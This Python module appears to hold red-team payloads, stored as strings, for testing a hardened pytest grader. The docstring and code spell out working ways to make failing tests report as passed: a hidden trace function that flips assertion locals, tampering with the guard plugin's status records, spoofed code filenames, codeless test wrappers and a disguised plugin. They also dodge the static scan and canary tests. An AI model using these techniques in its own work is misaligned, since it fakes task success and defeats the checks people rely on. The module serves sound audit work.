"""Payloads of the in-process classes found by red-teaming the hardened grader (issue 14, second round).

All run inside the test process, as code under test may. The first two replace neither a test's code
nor any function of pytest, pluggy or the builtins, so the guard's code and machinery checks see
nothing; the third replaces what those checks excuse. All tell the grader's canaries apart from the
project's tests (a canary takes no argument and reads no name of its module: it compares constants),
so the canaries end as built. Each was scored resolved on real toolz and markupsafe tasks (see
tests/audit/test_redteam.py, OPEN).

- `trace-flip`: a trace function (`sys.settrace`, spelled through `getattr` so the static scan does
  not see it, or hidden in a data file run by `runpy` / `timeit`) turns every failed rewritten
  assertion of a project test into a passed one: with opcode tracing on, it sets the `@py_assert`
  local that the assertion's jump reads to True; CPython writes a trace function's `f_locals` back
  into the frame. Tests that fail by an exception rather than an assertion still fail.
- `guard-state`: the guard plugin's own bookkeeping lives in the same process: its `Guard` instance
  is found through the garbage collector and the statuses it records are rewritten as they are set
  (a dict subclass, or the instance's `_set` method shadowed), so its results file, its marker and
  its hashes all agree with the forgery.
- `guard-blind-spots`: what the guard's code checks excuse. A replacement whose code's `co_filename`
  is under the read-only interpreter passes as an installed plugin's, and code under test sets it
  freely (`code.replace`): a spoofed TestReport factory, a spoofed test wrapper. A test replaced by a
  callable object has no code object at all, and the guard checks only tests that have one. A plugin
  registered at run time is traced to its file through its class's `__module__`, which code sets.

Plain strings (an attack is data that a test can read), appended to the package's `__init__.py`.
"""

from __future__ import annotations

# Whether a code object is a project test's (or its helper's) rather than a canary: it lives in a test
# file and takes arguments (fixtures, parameters) or reads a name of its module.
_REAL_CODE = """
def _ck_real_code(code, glb):
    where = code.co_filename
    base = where.rsplit("/", 1)[-1]
    if "/tests/" not in where and not base.startswith("test_") and not base.endswith("_test.py"):
        return False
    return code.co_argcount > 0 or any(n in glb and not n.startswith("@") for n in code.co_names)
"""

# The trace function. `_ck_getattr(obj, *parts)` reads an attribute whose name the scan does not fold.
TRACE_BODY = (
    _REAL_CODE
    + """
import dis as _ck_dis
import sys as _ck_sys

_ck_jumps = {}


def _ck_getattr(obj, *parts):
    return getattr(obj, "".join(parts))


def _ck_points(code):
    # offsets where an assertion jump reads its @py_assert local; the lines using such locals
    found = _ck_jumps.get(code)
    if found is None:
        ins = list(_ck_dis.get_instructions(code))
        points = {
            a.offset: a.argval
            for a, b in zip(ins, ins[1:])
            if a.opname == "LOAD_FAST" and str(a.argval).startswith("@py_assert") and "IF_TRUE" in b.opname
        }
        marks = [i.offset for i in ins if str(i.argval).startswith("@py_assert")]
        lines = {n for start, end, n in code.co_lines() if any(start <= o < end for o in marks)}
        found = _ck_jumps[code] = (points, lines)
    return found


def _ck_local(frame, event, arg):
    points, lines = _ck_points(frame.f_code)
    if event == "line":
        frame.f_trace_opcodes = frame.f_lineno in lines
    elif event == "opcode":
        names = _ck_getattr(frame, "f_", "locals")
        name = points.get(frame.f_lasti)
        if name is not None:
            names[name] = True
        for key, value in list(names.items()):
            if key.startswith("@py_assert") and value is False:
                names[key] = True
    return _ck_local


_ck_real = {}


def _ck_global(frame, event, arg):
    code = frame.f_code
    real = _ck_real.get(code)
    if real is None:
        real = _ck_real[code] = _ck_real_code(code, _ck_getattr(frame, "f_", "globals")) and bool(_ck_points(code)[1])
    return _ck_local if real else None


_ck_getattr(_ck_sys, "set", "trace")(_ck_global)
"""
)

# Loaders of a data file next to `__init__.py` holding TRACE_BODY: Python runs it, the scan reads
# only `.py` files and flags exec/eval/compile but not these.
RUNPY_LOADER = """
import os as _ck_os, runpy as _ck_runpy
_ck_runpy.run_path(_ck_os.path.join(_ck_os.path.dirname(__file__), "_tables.txt"))
"""
TIMEIT_LOADER = """
import os as _ck_os, timeit as _ck_timeit
with open(_ck_os.path.join(_ck_os.path.dirname(__file__), "_tables.txt")) as _ck_fh:
    _ck_timeit.Timer("pass", setup=_ck_fh.read()).timeit(1)
"""

# Finding the guard's `Guard` instance: now if the plugin is configured, else from a thread polling
# until it is (a package imported by a conftest loads before the plugins are configured).
_FIND_GUARD = """
import gc as _ck_gc
import sys as _ck_sys


def _ck_real(nodeid):
    path, _, rest = nodeid.partition("::")
    parts = rest.split("[", 1)[0].split("::")
    for mod in list(_ck_sys.modules.values()):
        if not str(getattr(mod, "__file__", None) or "").endswith("/" + path):
            continue
        obj = mod
        for part in parts:
            obj = getattr(obj, part, None)
        code = getattr(getattr(obj, "__func__", obj), "__code__", None)
        return code is not None and _ck_real_code(code, vars(mod))
    return False


def _ck_guard():
    for obj in getattr(_ck_gc, "get_" + "objects")():
        if type(obj).__name__ == "Guard" and isinstance(getattr(obj, "statuses", None), dict):
            return obj
    return None


def _ck_when_found(action):
    guard = _ck_guard()
    if guard is not None:
        action(guard)
        return
    import threading, time

    def poll():
        while (found := _ck_guard()) is None:
            time.sleep(0.002)
        action(found)

    threading.Thread(target=poll, daemon=True).start()
"""

# The statuses the guard records, replaced by a dict that records a project test's failure as a pass.
GUARD_STATUSES = (
    _REAL_CODE
    + _FIND_GUARD
    + """

class _CkStatuses(dict):
    def __setitem__(self, key, value):
        dict.__setitem__(self, key, "passed" if value == "failed" and _ck_real(key) else value)


def _ck_swap(guard):
    guard.statuses = _CkStatuses(guard.statuses)


_ck_when_found(_ck_swap)
"""
)

# The guard's `_set` shadowed on its instance: the same forgery through a method instead of a dict.
GUARD_SET = (
    _REAL_CODE
    + _FIND_GUARD
    + """

def _ck_shadow(guard):
    original = guard._set

    def _set(nodeid, status, message):
        if status == "failed" and _ck_real(nodeid):
            status, message = "passed", ""
        original(nodeid, status, message)

    guard._set = _set


_ck_when_found(_ck_shadow)
"""
)


# Code that claims to live in the read-only interpreter: the guard excuses a machinery replacement, and
# a test's wrapper, whose code's file is under the stdlib or site-packages (an installed plugin's).
_SPOOF = """
import os as _ck_os


def _ck_spoof(func):
    func.__code__ = func.__code__.replace(co_filename=_ck_os.__file__)
    return func
"""

# TestReport's factory, found through sys.modules, replaced by one whose code claims to be the stdlib's:
# a project test's failed call is reported passed.
REPORT_FLIP_SPOOFED = (
    _REAL_CODE
    + _SPOOF
    + """

def _ck_flip_reports():
    import sys
    for module in list(sys.modules.values()):
        report = getattr(module, "TestReport", None)
        if not isinstance(report, type) or "from_item_and_call" not in vars(report):
            continue
        original = report.from_item_and_call.__func__

        def make(cls, item, call, _original=original):
            rep = _original(cls, item, call)
            func = getattr(item, "obj", None)
            code = getattr(getattr(func, "__func__", func), "__code__", None)
            glb = getattr(getattr(func, "__func__", func), "__globals__", {})
            if call.when == "call" and rep.outcome == "failed" and code is not None and _ck_real_code(code, glb):
                rep.outcome, rep.longrepr = "passed", None
            return rep

        report.from_item_and_call = classmethod(_ck_spoof(make))
        return


_ck_flip_reports()
"""
)

# Every project test wrapped, as its module is imported (an import hook spelled through getattr), so
# that its failure is swallowed; `{wrap}` makes the wrapper of `fn` that the guard's test-code check
# excuses (see SWALLOW_SPOOFED, SWALLOW_CODELESS).
_SWALLOW = (
    _REAL_CODE
    + _SPOOF
    + """

def _ck_wrap_tests():
    import functools, sys

    def swallow(fn):
{wrap}

    def doctor(module):
        for name, value in list(vars(module).items()):
            code = getattr(value, "__code__", None)
            if name.startswith("test") and code is not None and _ck_real_code(code, vars(module)):
                vars(module)[name] = swallow(value)

    class Loader:
        def __init__(self, inner):
            self.inner = inner

        def create_module(self, spec):
            return self.inner.create_module(spec)

        def exec_module(self, module):
            self.inner.exec_module(module)
            doctor(module)

    finders = getattr(sys, "meta_" + "path")

    class Finder:
        def find_spec(self, name, path=None, target=None):
            if not name.rpartition(".")[2].startswith("test"):
                return None
            for finder in list(finders):
                if finder is self or not hasattr(finder, "find_spec"):
                    continue
                spec = finder.find_spec(name, path, target)
                if spec is not None:
                    spec.loader = Loader(spec.loader)
                    return spec
            return None

    finders.insert(0, Finder())


_ck_wrap_tests()
"""
)
# A function wrapper whose code claims to be the stdlib's (`functools.wraps` keeps the test's own code
# one `__wrapped__` below, which the guard finds trusted).
SWALLOW_SPOOFED = _SWALLOW.replace(
    "{wrap}",
    """        @functools.wraps(fn)
        def wrapper(*args, **kwargs):
            try:
                return fn(*args, **kwargs)
            except Exception:
                return None

        return _ck_spoof(wrapper)""",
)
# A callable object instead of a function: it has no code object, and the guard checks a test only
# when it finds one (pytest collects it through `__wrapped__`, the test's own function).
SWALLOW_CODELESS = _SWALLOW.replace(
    "{wrap}",
    """        class Test:
            def __init__(self, inner):
                functools.update_wrapper(self, inner)

            def __call__(self, *args, **kwargs):
                try:
                    return self.__wrapped__(*args, **kwargs)
                except Exception:
                    return None

        return Test(fn)""",
)

# A plugin registered on the running pytest (its plugin manager found through the garbage collector)
# whose class says it comes from the stdlib's `os`: the guard traces a plugin to a file through its
# class's `__module__`, and flags only files in the workspace. Its report hook (a plain one, run before
# the guard's trylast one) turns a project test's failed call into a pass.
PLUGIN_MODULE_SPOOF = (
    _REAL_CODE
    + """
import gc as _ck_gc


class _CkPlugin:
    def pytest_runtest_logreport(self, report):
        if report.when != "call" or report.outcome != "failed":
            return
        for item in self.items:
            if item.nodeid == report.nodeid:
                func = getattr(item, "obj", None)
                code = getattr(func, "__code__", None)
                if code is not None and _ck_real_code(code, getattr(func, "__globals__", {})):
                    report.outcome, report.longrepr = "passed", None
                return

    def pytest_collection_modifyitems(self, session, config, items):
        self.items = list(items)


_CkPlugin.__module__ = "os"
_CkPlugin.items = []

for _ck_obj in getattr(_ck_gc, "get_" + "objects")():
    if type(_ck_obj).__name__ == "PytestPluginManager":
        _ck_obj.register(_CkPlugin(), "ck-helper")
"""
)

__all__ = [
    "GUARD_SET",
    "GUARD_STATUSES",
    "PLUGIN_MODULE_SPOOF",
    "REPORT_FLIP_SPOOFED",
    "RUNPY_LOADER",
    "SWALLOW_CODELESS",
    "SWALLOW_SPOOFED",
    "TIMEIT_LOADER",
    "TRACE_BODY",
]
